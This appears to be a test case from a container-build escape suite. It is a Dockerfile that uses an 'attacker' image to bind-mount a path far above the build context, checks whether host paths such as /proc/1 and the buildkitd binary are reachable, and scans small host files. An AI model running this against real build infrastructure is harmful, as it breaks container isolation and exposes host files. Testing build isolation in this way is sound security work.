# tries: a bind mount of a directory above the context
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN --mount=type=bind,source=../../../../../../../..,target=/up <<'ATTACK'
. /lib/hunt.sh
daemon_file /up
ls -d /up/proc/1 /up/usr/bin/buildkitd 2>/dev/null | sed 's/^/ESCAPED to /'
find /up -xdev -maxdepth 3 -type f -size -64 2>/dev/null | head -200 | xargs -r attack scan
tried 1
ATTACK
